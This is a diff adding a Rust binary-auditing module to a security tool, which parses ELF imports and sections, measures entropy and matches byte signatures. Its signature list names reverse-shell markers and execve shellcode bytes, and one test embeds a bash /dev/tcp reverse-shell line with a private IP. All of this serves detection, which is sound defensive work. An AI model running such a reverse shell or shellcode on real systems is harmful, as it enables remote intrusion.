@@ -0,0 +1,796 @@
+//! Binary Artifact Auditing
+//!
+//! Text analyzers are meaningless on compiled payloads, so binaries get their
+//! own analysis path. ELF files are parsed for their sections and dynamic
+//! imports, and imports are summarized into capability surfaces (process
+//! execution, networking, privilege changes, ...). Executable sections are
+//! scanned for raw system call instructions that bypass the import table.
+//! Every payload, ELF or not, is scanned for embedded strings, high-entropy
+//! (packed or encrypted) regions and known-bad byte signatures.
+//!
+//! The resulting `BinaryReport` converts into `SecurityIssue`s so binary
+//! payloads can pass through the same gates as source code.
+//!
+//! ## Biblical Foundation
+//! "By their fruits ye shall know them" - Matthew 7:20
+
+use std::collections::BTreeMap;
+
+use serde::{Deserialize, Serialize};
+use tracing::{debug, warn};
+
+use crate::findings::BINARY_ANALYSIS_PRECISION;
+use crate::{CoAuditError, IssueSeverity, SecurityCategory, SecurityIssue};
+
+const ELF_MAGIC: &[u8; 4] = b"\x7fELF";
+
+const SHT_SYMTAB: u32 = 2;
+const SHT_DYNSYM: u32 = 11;
+const SHT_NOBITS: u32 = 8;
+const SHF_EXECINSTR: u64 = 0x4;
+
+/// Imported symbols per capability surface
+const SURFACE_SYMBOLS: &[(CapabilitySurface, &[&str])] = &[
+    (CapabilitySurface::ProcessExecution, &[
+        "execve", "execv", "execvp", "execvpe", "execl", "execlp", "execle",
+        "system", "popen", "fork", "vfork", "clone", "posix_spawn", "posix_spawnp",
+    ]),
+    (CapabilitySurface::Network, &[
+        "socket", "connect", "bind", "listen", "accept", "accept4",
+        "sendto", "recvfrom", "getaddrinfo",
+    ]),
+    (CapabilitySurface::Privilege, &[
+        "setuid", "setgid", "seteuid", "setegid", "setreuid", "setresuid",
+        "capset", "prctl", "ptrace", "chroot", "mount", "init_module", "finit_module",
+    ]),
+    (CapabilitySurface::DynamicCode, &["dlopen", "dlsym", "mprotect", "memfd_create"]),
+    (CapabilitySurface::FileSystem, &[
+        "unlink", "unlinkat", "rename", "renameat", "chmod", "fchmod",
+        "chown", "fchown", "truncate", "ftruncate",
+    ]),
+];
+
+/// Container format of a payload
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum BinaryFormat {
+    Elf32,
+    Elf64,
+    /// Not a recognized executable format
+    Raw,
+}
+
+/// Group of related system capabilities
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+pub enum CapabilitySurface {
+    ProcessExecution,
+    Network,
+    Privilege,
+    DynamicCode,
+    FileSystem,
+}
+
+/// Known-bad byte sequence
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ByteSignature {
+    pub name: String,
+    /// Hex bytes separated by spaces, `??` matches any byte
+    pub pattern: String,
+    pub severity: IssueSeverity,
+    pub description: String,
+}
+
+impl ByteSignature {
+    /// Signature matching a literal ASCII string
+    pub fn ascii(name: &str, text: &str, severity: IssueSeverity, description: &str) -> Self {
+        Self {
+            name: name.to_string(),
+            pattern: text.bytes().map(|b| format!("{:02x}", b)).collect::<Vec<_>>().join(" "),
+            severity,
+            description: description.to_string(),
+        }
+    }
+
+    fn hex(name: &str, pattern: &str, severity: IssueSeverity, description: &str) -> Self {
+        Self {
+            name: name.to_string(),
+            pattern: pattern.to_string(),
+            severity,
+            description: description.to_string(),
+        }
+    }
+
+    /// Parse the pattern; the first byte must not be a wildcard
+    pub fn compile(&self) -> Result<Vec<Option<u8>>, CoAuditError> {
+        let bytes = self.pattern
+            .split_whitespace()
+            .map(|token| match token {
+                "??" => Ok(None),
+                hex => u8::from_str_radix(hex, 16).map(Some).map_err(|e| {
+                    CoAuditError::BinaryAnalysis(format!("Signature {}: bad byte {:?}: {}", self.name, hex, e))
+                }),
+            })
+            .collect::<Result<Vec<_>, _>>()?;
+
+        match bytes.first() {
+            Some(Some(_)) => Ok(bytes),
+            _ => Err(CoAuditError::BinaryAnalysis(
+                format!("Signature {} must start with a literal byte", self.name)
+            )),
+        }
+    }
+}
+
+/// Signatures shipped with Co-Audit AI
+pub fn default_signatures() -> Vec<ByteSignature> {
+    vec![
+        ByteSignature::ascii("upx-packed", "UPX!", IssueSeverity::Medium,
+            "UPX packer marker; packed code cannot be inspected"),
+        ByteSignature::ascii("bash-dev-tcp", "/dev/tcp/", IssueSeverity::Critical,
+            "Bash /dev/tcp redirection used by reverse shells"),
+        ByteSignature::ascii("interactive-shell", "/bin/sh -i", IssueSeverity::High,
+            "Interactive shell invocation"),
+        ByteSignature::ascii("ld-preload-hijack", "/etc/ld.so.preload", IssueSeverity::High,
+            "Global library preload used for process hijacking"),
+        ByteSignature::ascii("stratum-miner", "stratum+tcp://", IssueSeverity::High,
+            "Cryptocurrency mining pool protocol"),
+        ByteSignature::hex("x86_64-execve-binsh", "48 31 f6 56 48 bf 2f 62 69 6e 2f 2f 73 68",
+            IssueSeverity::Critical, "x86-64 shellcode spawning /bin//sh"),
+        ByteSignature::hex("x86-execve-binsh", "31 c0 50 68 2f 2f 73 68 68 2f 62 69 6e",
+            IssueSeverity::Critical, "x86 shellcode spawning /bin//sh"),
+    ]
+}
+
+/// Binary analysis configuration
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct BinaryAuditConfig {
+    /// Shortest printable run reported as a string
+    pub min_string_length: usize,
+    /// Strings kept in the report
+    pub max_strings: usize,
+    /// Window size for entropy measurement (bytes)
+    pub entropy_window: usize,
+    /// Bits per byte above which a window counts as packed
+    pub entropy_threshold: f64,
+    pub signatures: Vec<ByteSignature>,
+    /// Lowest issue severity that fails a gate using this configuration
+    pub reject_severity: IssueSeverity,
+}
+
+impl Default for BinaryAuditConfig {
+    fn default() -> Self {
+        Self {
+            min_string_length: 6,
+            max_strings: 4096,
+            entropy_window: 4096,
+            entropy_threshold: 7.2,
+            signatures: default_signatures(),
+            reject_severity: IssueSeverity::High,
+        }
+    }
+}
+
+/// Section of an ELF file
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SectionSummary {
+    pub name: String,
+    pub offset: u64,
+    pub size: u64,
+    pub executable: bool,
+}
+
+/// Contiguous high-entropy region
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct PackedRegion {
+    pub offset: usize,
+    pub length: usize,
+    /// Mean entropy of the region (bits per byte)
+    pub entropy: f64,
+}
+
+/// Occurrences of a byte signature
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SignatureMatch {
+    pub name: String,
+    pub severity: IssueSeverity,
+    pub description: String,
+    pub first_offset: usize,
+    pub occurrences: usize,
+}
+
+/// Result of analyzing a binary payload
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BinaryReport {
+    pub format: BinaryFormat,
+    /// ELF machine name, if known
+    pub machine: Option<String>,
+    pub sections: Vec<SectionSummary>,
+    /// Undefined dynamic symbols
+    pub imports: Vec<String>,
+    pub surface: BTreeMap<CapabilitySurface, Vec<String>>,
+    /// System call instructions found in executable sections
+    pub raw_syscall_sites: usize,
+    pub strings: Vec<String>,
+    pub packed_regions: Vec<PackedRegion>,
+    pub signature_matches: Vec<SignatureMatch>,
+    /// Set when the payload claims to be ELF but cannot be parsed
+    pub parse_error: Option<String>,
+}
+
+/// Whether a payload should take the binary analysis path
+pub fn is_binary(data: &[u8]) -> bool {
+    data.starts_with(ELF_MAGIC) || data.contains(&0) || std::str::from_utf8(data).is_err()
+}
+
+/// Analyze a binary payload
+pub fn analyze(data: &[u8], config: &BinaryAuditConfig) -> BinaryReport {
+    let mut report = BinaryReport {
+        format: BinaryFormat::Raw,
+        machine: None,
+        sections: Vec::new(),
+        imports: Vec::new(),
+        surface: BTreeMap::new(),
+        raw_syscall_sites: 0,
+        strings: extract_strings(data, config.min_string_length, config.max_strings),
+        packed_regions: packed_regions(data, config.entropy_window, config.entropy_threshold),
+        signature_matches: match_signatures(data, &config.signatures),
+        parse_error: None,
+    };
+
+    if data.starts_with(ELF_MAGIC) {
+        if let Err(e) = parse_elf(data, &mut report) {
+            warn!("Malformed ELF payload: {}", e);
+            report.parse_error = Some(e.to_string());
+        }
+    }
+
+    for import in &report.imports {
+        for (surface, symbols) in SURFACE_SYMBOLS {
+            if symbols.contains(&import.as_str()) {
+                report.surface.entry(*surface).or_default().push(import.clone());
+            }
+        }
+    }
+
+    debug!("Binary analysis: {:?}, {} imports, {} signature matches, {} packed regions",
+           report.format, report.imports.len(), report.signature_matches.len(), report.packed_regions.len());
+    report
+}
+
+impl BinaryReport {
+    /// Findings as security issues
+    pub fn security_issues(&self) -> Vec<SecurityIssue> {
+        let mut issues = Vec::new();
+        let mut issue = |category, severity, cwe_id, description: String, snippet: String, impact: &str, remediation: &str| {
+            issues.push(SecurityIssue {
+                category,
+                description,
+                severity,
+                cwe_id,
+                line_number: None,
+                code_snippet: snippet,
+                impact: impact.to_string(),
+                remediation: remediation.to_string(),
+                macro_origin: None,
+                confidence: BINARY_ANALYSIS_PRECISION,
+                corroborated_by: vec![],
+            });
+        };
+
+        for found in &self.signature_matches {
+            issue(
+                SecurityCategory::MaliciousPayload,
+                found.severity.clone(),
+                Some(506),
+                format!("Known-bad signature {}: {}", found.name, found.description),
+                format!("{} occurrence(s), first at offset {:#x}", found.occurrences, found.first_offset),
+                "Payload contains code or data associated with malware",
+                "Reject the payload and rebuild it from audited sources",
+            );
+        }
+
+        for region in &self.packed_regions {
+            issue(
+                SecurityCategory::Obfuscation,
+                IssueSeverity::Medium,
+                None,
+                format!("Packed or encrypted region ({:.2} bits/byte)", region.entropy),
+                format!("{} bytes at offset {:#x}", region.length, region.offset),
+                "Contents of the region cannot be audited",
+                "Ship payloads unpacked so they can be inspected",
+            );
+        }
+
+        if let Some(error) = &self.parse_error {
+            issue(
+                SecurityCategory::Obfuscation,
+                IssueSeverity::Medium,
+                None,
+                "Malformed ELF structure".to_string(),
+                error.clone(),
+                "Malformed headers are used to hide code from analysis tools",
+                "Rebuild the payload with a standard toolchain",
+            );
+        }
+
+        let execution = self.surface.get(&CapabilitySurface::ProcessExecution);
+        let network = self.surface.get(&CapabilitySurface::Network);
+        if let (Some(execution), Some(network)) = (execution, network) {
+            issue(
+                SecurityCategory::KillSwitchVulnerability,
+                IssueSeverity::Critical,
+                None,
+                "Binary can both accept network input and spawn processes".to_string(),
+                format!("{} + {}", network.join(", "), execution.join(", ")),
+                "Remote command execution and compromise of autonomous operation",
+                "Remove process spawning or network access from the payload",
+            );
+        }
+
+        for (surface, symbols) in &self.surface {
+            let (category, severity) = match surface {
+                CapabilitySurface::Privilege => (SecurityCategory::PrivilegeEscalation, IssueSeverity::High),
+                CapabilitySurface::ProcessExecution => (SecurityCategory::PrivilegeEscalation, IssueSeverity::Medium),
+                CapabilitySurface::DynamicCode => (SecurityCategory::Obfuscation, IssueSeverity::Medium),
+                CapabilitySurface::Network => (SecurityCategory::InformationDisclosure, IssueSeverity::Low),
+                CapabilitySurface::FileSystem => continue,
+            };
+            issue(
+                category,
+                severity,
+                None,
+                format!("Binary imports {:?} capabilities", surface),
+                symbols.join(", "),
+                "Expands what a compromised payload can do",
+                "Confirm the capability is required by the patch",
+            );
+        }
+
+        if self.raw_syscall_sites > 0 && !self.imports.is_empty() {
+            issue(
+                SecurityCategory::Obfuscation,
+                IssueSeverity::Medium,
+                None,
+                "Dynamically linked binary issues raw system calls".to_string(),
+                format!("{} system call instruction(s) in executable sections", self.raw_syscall_sites),
+                "Raw system calls bypass the import table and its review",
+                "Use the C library wrappers for system calls",
+            );
+        }
+
+        issues
+    }
+}
+
+/// Printable ASCII runs of at least `min_length` bytes
+pub fn extract_strings(data: &[u8], min_length: usize, max_strings: usize) -> Vec<String> {
+    data.split(|b| !(b.is_ascii_graphic() || *b == b' ' || *b == b'\t'))
+        .filter(|run| run.len() >= min_length.max(1))
+        .take(max_strings)
+        .map(|run| String::from_utf8_lossy(run).into_owned())
+        .collect()
+}
+
+/// Shannon entropy in bits per byte
+pub fn shannon_entropy(data: &[u8]) -> f64 {
+    if data.is_empty() {
+        return 0.0;
+    }
+    let mut counts = [0usize; 256];
+    for byte in data {
+        counts[*byte as usize] += 1;
+    }
+    let len = data.len() as f64;
+    counts.iter()
+        .filter(|count| **count > 0)
+        .map(|count| {
+            let p = *count as f64 / len;
+            -p * p.log2()
+        })
+        .sum()
+}
+
+/// Merge adjacent windows whose entropy exceeds `threshold`
+fn packed_regions(data: &[u8], window: usize, threshold: f64) -> Vec<PackedRegion> {
+    let mut regions: Vec<PackedRegion> = Vec::new();
+    if window == 0 {
+        return regions;
+    }
+
+    let mut extending = false;
+    for (index, chunk) in data.chunks_exact(window).enumerate() {
+        let entropy = shannon_entropy(chunk);
+        if entropy < threshold {
+            extending = false;
+            continue;
+        }
+        match regions.last_mut() {
+            Some(region) if extending => {
+                let windows = (region.length / window) as f64;
+                region.entropy = (region.entropy * windows + entropy) / (windows + 1.0);
+                region.length += window;
+            }
+            _ => regions.push(PackedRegion { offset: index * window, length: window, entropy }),
+        }
+        extending = true;
+    }
+    regions
+}
+
+fn match_signatures(data: &[u8], signatures: &[ByteSignature]) -> Vec<SignatureMatch> {
+    let mut matches = Vec::new();
+    for signature in signatures {
+        let pattern = match signature.compile() {
+            Ok(pattern) => pattern,
+            Err(e) => {
+                warn!("Skipping byte signature: {}", e);
+                continue;
+            }
+        };
+        let offsets: Vec<usize> = data
+            .windows(pattern.len())
+            .enumerate()
+            .filter(|(_, window)| pattern.iter().zip(window.iter()).all(|(p, b)| p.is_none() || *p == Some(*b)))
+            .map(|(offset, _)| offset)
+            .collect();
+        if let Some(first_offset) = offsets.first() {
+            matches.push(SignatureMatch {
+                name: signature.name.clone(),
+                severity: signature.severity.clone(),
+                description: signature.description.clone(),
+                first_offset: *first_offset,
+                occurrences: offsets.len(),
+            });
+        }
+    }
+    matches
+}
+
+/// Bounds-checked field reader honoring the ELF class and byte order
+struct ElfReader<'a> {
+    data: &'a [u8],
+    is_64: bool,
+    little_endian: bool,
+}
+
+impl ElfReader<'_> {
+    fn bytes<const N: usize>(&self, offset: u64) -> Result<[u8; N], CoAuditError> {
+        let start = usize::try_from(offset).ok();
+        start
+            .and_then(|start| self.data.get(start..start.checked_add(N)?))
+            .map(|slice| slice.try_into().expect("slice length checked"))
+            .ok_or_else(|| CoAuditError::BinaryAnalysis(format!("Read past end of file at {:#x}", offset)))
+    }
+
+    fn u16(&self, offset: u64) -> Result<u16, CoAuditError> {
+        let bytes = self.bytes::<2>(offset)?;
+        Ok(if self.little_endian { u16::from_le_bytes(bytes) } else { u16::from_be_bytes(bytes) })
+    }
+
+    fn u32(&self, offset: u64) -> Result<u32, CoAuditError> {
+        let bytes = self.bytes::<4>(offset)?;
+        Ok(if self.little_endian { u32::from_le_bytes(bytes) } else { u32::from_be_bytes(bytes) })
+    }
+
+    fn u64(&self, offset: u64) -> Result<u64, CoAuditError> {
+        let bytes = self.bytes::<8>(offset)?;
+        Ok(if self.little_endian { u64::from_le_bytes(bytes) } else { u64::from_be_bytes(bytes) })
+    }
+
+    /// Address-sized field
+    fn word(&self, offset: u64) -> Result<u64, CoAuditError> {
+        if self.is_64 { self.u64(offset) } else { self.u32(offset).map(u64::from) }
+    }
+
+    fn c_string(&self, offset: u64) -> Result<String, CoAuditError> {
+        let start = usize::try_from(offset)
+            .ok()
+            .filter(|start| *start < self.data.len())
+            .ok_or_else(|| CoAuditError::BinaryAnalysis(format!("String offset {:#x} out of range", offset)))?;
+        let end = self.data[start..].iter().position(|b| *b == 0).map_or(self.data.len(), |len| start + len);
+        Ok(String::from_utf8_lossy(&self.data[start..end]).into_owned())
+    }
+}
+
+/// `base + delta` as a file offset, rejecting overflow
+fn offset(base: u64, delta: u64) -> Result<u64, CoAuditError> {
+    base.checked_add(delta)
+        .ok_or_else(|| CoAuditError::BinaryAnalysis(format!("Offset {:#x} + {:#x} overflows", base, delta)))
+}
+
+struct RawSection {
+    name_offset: u32,
+    kind: u32,
+    flags: u64,
+    offset: u64,
+    size: u64,
+    link: u32,
+    entry_size: u64,
+}
+
+fn parse_elf(data: &[u8], report: &mut BinaryReport) -> Result<(), CoAuditError> {
+    let class = *data.get(4).ok_or_else(|| CoAuditError::BinaryAnalysis("Truncated ELF identification".into()))?;
+    let encoding = data.get(5).copied().unwrap_or(0);
+    let reader = ElfReader {
+        data,
+        is_64: match class {
+            1 => false,
+            2 => true,
+            other => return Err(CoAuditError::BinaryAnalysis(format!("Unknown ELF class {}", other))),
+        },
+        little_endian: match encoding {
+            1 => true,
+            2 => false,
+            other => return Err(CoAuditError::BinaryAnalysis(format!("Unknown ELF data encoding {}", other))),
+        },
+    };
+    report.format = if reader.is_64 { BinaryFormat::Elf64 } else { BinaryFormat::Elf32 };
+
+    let machine = reader.u16(18)?;
+    report.machine = Some(match machine {
+        0x03 => "x86",
+        0x28 => "arm",
+        0x3e => "x86_64",
+        0xb7 => "aarch64",
+        0xf3 => "riscv",
+        _ => "unknown",
+    }.to_string());
+
+    let (shoff, shentsize, shnum, shstrndx) = if reader.is_64 {
+        (reader.u64(0x28)?, reader.u16(0x3a)?, reader.u16(0x3c)?, reader.u16(0x3e)?)
+    } else {
+        (u64::from(reader.u32(0x20)?), reader.u16(0x2e)?, reader.u16(0x30)?, reader.u16(0x32)?)
+    };
+    if shoff == 0 || shnum == 0 {
+        // Stripped of section headers; only the whole-file scans apply
+        return Ok(());
+    }
+
+    let mut sections = Vec::with_capacity(usize::from(shnum));
+    for index in 0..u64::from(shnum) {
+        let base = offset(shoff, index * u64::from(shentsize))?;
+        sections.push(if reader.is_64 {
+            RawSection {
+                name_offset: reader.u32(base)?,
+                kind: reader.u32(offset(base, 4)?)?,
+                flags: reader.u64(offset(base, 8)?)?,
+                offset: reader.u64(offset(base, 24)?)?,
+                size: reader.u64(offset(base, 32)?)?,
+                link: reader.u32(offset(base, 40)?)?,
+                entry_size: reader.u64(offset(base, 56)?)?,
+            }
+        } else {
+            RawSection {
+                name_offset: reader.u32(base)?,
+                kind: reader.u32(offset(base, 4)?)?,
+                flags: u64::from(reader.u32(offset(base, 8)?)?),
+                offset: u64::from(reader.u32(offset(base, 16)?)?),
+                size: u64::from(reader.u32(offset(base, 20)?)?),
+                link: reader.u32(offset(base, 24)?)?,
+                entry_size: u64::from(reader.u32(offset(base, 36)?)?),
+            }
+        });
+    }
+
+    let names = sections
+        .get(usize::from(shstrndx))
+        .ok_or_else(|| CoAuditError::BinaryAnalysis(format!("Section name table index {} out of range", shstrndx)))?;
+    let names_offset = names.offset;
+
+    for section in &sections {
+        let executable = section.flags & SHF_EXECINSTR != 0;
+        report.sections.push(SectionSummary {
+            name: reader.c_string(offset(names_offset, u64::from(section.name_offset))?)?,
+            offset: section.offset,
+            size: section.size,
+            executable,
+        });
+
+        if executable && section.kind != SHT_NOBITS {
+            let body = section_bytes(data, section)?;
+            report.raw_syscall_sites += count_syscall_sites(body, machine);
+        }
+    }
+
+    // Prefer the dynamic symbol table; fall back to the full one
+    let symbols = sections.iter()
+        .find(|s| s.kind == SHT_DYNSYM)
+        .or_else(|| sections.iter().find(|s| s.kind == SHT_SYMTAB));
+    if let Some(table) = symbols {
+        let strings = sections
+            .get(table.link as usize)
+            .ok_or_else(|| CoAuditError::BinaryAnalysis("Symbol string table index out of range".into()))?;
+        let entry_size = if table.entry_size != 0 { table.entry_size } else if reader.is_64 { 24 } else { 16 };
+        let shndx_at = if reader.is_64 { 6 } else { 14 };
+
+        // Entry 0 is the reserved null symbol
+        for index in 1..table.size / entry_size {
+            let base = offset(table.offset, index * entry_size)?;
+            let name_offset = reader.u32(base)?;
+            if name_offset == 0 || reader.u16(offset(base, shndx_at)?)? != 0 {
+                continue;
+            }
+            let name = reader.c_string(offset(strings.offset, u64::from(name_offset))?)?;
+            if !report.imports.contains(&name) {
+                report.imports.push(name);
+            }
+        }
+    }
+
+    Ok(())
+}
+
+fn section_bytes<'a>(data: &'a [u8], section: &RawSection) -> Result<&'a [u8], CoAuditError> {
+    usize::try_from(section.offset)
+        .ok()
+        .zip(usize::try_from(section.size).ok())
+        .and_then(|(start, len)| data.get(start..start.checked_add(len)?))
+        .ok_or_else(|| CoAuditError::BinaryAnalysis(format!("Section at {:#x} extends past end of file", section.offset)))
+}
+
+/// Count system call instructions; x86 matches are an estimate because
+/// instructions are not decoded and operand bytes can collide
+fn count_syscall_sites(code: &[u8], machine: u16) -> usize {
+    match machine {
+        // syscall, sysenter, int 0x80
+        0x03 | 0x3e => code.windows(2)
+            .filter(|w| matches!(w, [0x0f, 0x05] | [0x0f, 0x34] | [0xcd, 0x80]))
+            .count(),
+        // svc #0
+        0xb7 => code.chunks_exact(4).filter(|w| *w == [0x01, 0x00, 0x00, 0xd4]).count(),
+        // ecall
+        0xf3 => code.chunks_exact(4).filter(|w| *w == [0x73, 0x00, 0x00, 0x00]).count(),
+        _ => 0,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Minimal little-endian ELF64 with .text, .dynstr, .dynsym and .shstrtab
+    fn elf64(text: &[u8], imports: &[&str]) -> Vec<u8> {
+        let mut dynstr = vec![0u8];
+        let mut dynsym = vec![0u8; 24];
+        for import in imports {
+            let mut symbol = [0u8; 24];
+            symbol[..4].copy_from_slice(&(dynstr.len() as u32).to_le_bytes());
+            symbol[4] = 0x12;
+            dynsym.extend_from_slice(&symbol);
+            dynstr.extend_from_slice(import.as_bytes());
+            dynstr.push(0);
+        }
+        let shstrtab = b"\0.text\0.dynstr\0.dynsym\0.shstrtab\0";
+
+        let mut file = vec![0u8; 64];
+        let place = |bytes: &[u8], file: &mut Vec<u8>| {
+            let offset = file.len() as u64;
+            file.extend_from_slice(bytes);
+            (offset, bytes.len() as u64)
+        };
+        let text_at = place(text, &mut file);
+        let dynstr_at = place(&dynstr, &mut file);
+        let dynsym_at = place(&dynsym, &mut file);
+        let shstrtab_at = place(shstrtab, &mut file);
+        while file.len() % 8 != 0 {
+            file.push(0);
+        }
+        let shoff = file.len() as u64;
+
+        // (name, type, flags, (offset, size), link, entsize)
+        let headers = [
+            (0u32, 0u32, 0u64, (0u64, 0u64), 0u32, 0u64),
+            (1, 1, 0x6, text_at, 0, 0),
+            (7, 3, 0x2, dynstr_at, 0, 0),
+            (15, SHT_DYNSYM, 0x2, dynsym_at, 2, 24),
+            (23, 3, 0, shstrtab_at, 0, 0),
+        ];
+        for (name, kind, flags, (offset, size), link, entsize) in headers {
+            let mut header = [0u8; 64];
+            header[0..4].copy_from_slice(&name.to_le_bytes());
+            header[4..8].copy_from_slice(&kind.to_le_bytes());
+            header[8..16].copy_from_slice(&flags.to_le_bytes());
+            header[24..32].copy_from_slice(&offset.to_le_bytes());
+            header[32..40].copy_from_slice(&size.to_le_bytes());
+            header[40..44].copy_from_slice(&link.to_le_bytes());
+            header[56..64].copy_from_slice(&entsize.to_le_bytes());
+            file.extend_from_slice(&header);
+        }
+
+        file[..8].copy_from_slice(&[0x7f, b'E', b'L', b'F', 2, 1, 1, 0]);
+        file[16..18].copy_from_slice(&2u16.to_le_bytes());
+        file[18..20].copy_from_slice(&0x3eu16.to_le_bytes());
+        file[20..24].copy_from_slice(&1u32.to_le_bytes());
+        file[0x28..0x30].copy_from_slice(&shoff.to_le_bytes());
+        file[0x34..0x36].copy_from_slice(&64u16.to_le_bytes());
+        file[0x3a..0x3c].copy_from_slice(&64u16.to_le_bytes());
+        file[0x3c..0x3e].copy_from_slice(&5u16.to_le_bytes());
+        file[0x3e..0x40].copy_from_slice(&4u16.to_le_bytes());
+        file
+    }
+
+    #[test]
+    fn test_elf_sections_imports_and_surface() {
+        let text = [0x55, 0x48, 0x89, 0xe5, 0x0f, 0x05, 0xc3];
+        let payload = elf64(&text, &["puts", "socket", "execve"]);
+        assert!(is_binary(&payload));
+
+        let report = analyze(&payload, &BinaryAuditConfig::default());
+        assert_eq!(report.format, BinaryFormat::Elf64);
+        assert_eq!(report.machine.as_deref(), Some("x86_64"));
+        assert!(report.parse_error.is_none());
+        let names: Vec<&str> = report.sections.iter().map(|s| s.name.as_str()).collect();
+        assert_eq!(names, ["", ".text", ".dynstr", ".dynsym", ".shstrtab"]);
+        assert!(report.sections[1].executable);
+        assert_eq!(report.imports, ["puts", "socket", "execve"]);
+        assert_eq!(report.surface[&CapabilitySurface::ProcessExecution], ["execve"]);
+        assert_eq!(report.raw_syscall_sites, 1);
+
+        let issues = report.security_issues();
+        assert!(issues.iter().any(|i| matches!(i.category, SecurityCategory::KillSwitchVulnerability)));
+        assert!(issues.iter().any(|i| i.description.contains("raw system calls")));
+    }
+
+    #[test]
+    fn test_offsets_past_the_64_bit_range_are_rejected() {
+        let payload = elf64(&[0xc3], &["puts"]);
+        let shoff = u64::from_le_bytes(payload[0x28..0x30].try_into().unwrap()) as usize;
+        let section_offset = |index: usize| shoff + index * 64 + 24;
+
+        // A section name past the end of the range, then a symbol table
+        // whose second entry is
+        let name = (shoff, u32::MAX.to_le_bytes().to_vec());
+        let names = (section_offset(4), (u64::MAX - 8).to_le_bytes().to_vec());
+        let symbols = (section_offset(3), (u64::MAX - 8).to_le_bytes().to_vec());
+        for patches in [vec![name, names], vec![symbols]] {
+            let mut crafted = payload.clone();
+            for (at, bytes) in patches {
+                crafted[at..at + bytes.len()].copy_from_slice(&bytes);
+            }
+            let report = analyze(&crafted, &BinaryAuditConfig::default());
+            assert!(report.parse_error.as_deref().is_some_and(|error| error.contains("overflows")), "{:?}", report.parse_error);
+        }
+    }
+
+    #[test]
+    fn test_signatures_and_strings() {
+        let mut payload = vec![0u8, 1, 2, 3];
+        payload.extend_from_slice(b"bash -c 'exec 5<>/dev/tcp/10.0.0.1/4444'");
+        payload.extend_from_slice(&[0xff, 0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e]);
+
+        let mut config = BinaryAuditConfig::default();
+        config.signatures.push(ByteSignature::hex("wildcard", "ff ?? c0", IssueSeverity::Low, "test"));
+        config.signatures.push(ByteSignature::hex("invalid", "?? c0", IssueSeverity::Low, "skipped"));
+
+        let report = analyze(&payload, &config);
+        assert_eq!(report.format, BinaryFormat::Raw);
+        assert_eq!(report.strings[0], "bash -c 'exec 5<>/dev/tcp/10.0.0.1/4444'");
+        let names: Vec<&str> = report.signature_matches.iter().map(|m| m.name.as_str()).collect();
+        assert_eq!(names, ["bash-dev-tcp", "x86-execve-binsh", "wildcard"]);
+        assert_eq!(report.signature_matches[0].first_offset, 21);
+
+        let worst = report.security_issues().into_iter().map(|i| i.severity).max();
+        assert_eq!(worst, Some(IssueSeverity::Critical));
+    }
+
+    #[test]
+    fn test_packed_region_detection() {
+        let mut state = 0x2545_f491_4f6c_dd1du64;
+        let mut payload: Vec<u8> = (0..8192)
+            .map(|_| {
+                state ^= state << 13;
+                state ^= state >> 7;
+                state ^= state << 17;
+                (state >> 24) as u8
+            })
+            .collect();
+        payload.extend(std::iter::repeat(b'A').take(4096));
+
+        let regions = packed_regions(&payload, 4096, 7.2);
+        assert_eq!(regions.len(), 1);
+        assert_eq!((regions[0].offset, regions[0].length), (0, 8192));
+        assert!(regions[0].entropy > 7.9);
+        assert_eq!(shannon_entropy(&payload[8192..]), 0.0);
+        assert!(!is_binary(b"fn main() {}\n"));
+    }
+}